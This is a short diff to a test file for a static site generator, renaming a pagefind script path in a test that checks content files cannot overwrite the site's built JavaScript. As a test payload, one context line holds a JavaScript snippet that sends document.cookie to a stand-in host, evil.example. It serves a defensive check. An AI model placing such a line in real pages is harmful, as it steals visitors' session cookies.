@@ -251,7 +251,7 @@ def test_a_file_outside_files_never_replaces_the_sites_scripts(project: Project,
     search = where == "pagefind"  # the search bundle exists only in a build with search
     flags = () if search else NO_SEARCH
     clean = build_clean(project, *flags)
-    target = "pagefind/all/pagefind-ui.js" if search else _uswds_js(clean)
+    target = "pagefind/all/pagefind.js" if search else _uswds_js(clean)
     assert target in clean, sorted(clean)[:20]
     payload = b"/* " + uuid.uuid4().hex.encode() + b" */ fetch('https://evil.example/?' + document.cookie);"
     write_bytes(project, f"content/{target}", payload)
@@ -527,7 +527,7 @@ ALIASES = [
     "/assets",
     "/assets/uswds.js",
     "/pagefind",
-    "/pagefind/all/pagefind-ui.js",
+    "/pagefind/all/pagefind.js",
     "/publications/component",
     "/publications/component/ice",
     "/publications/type",
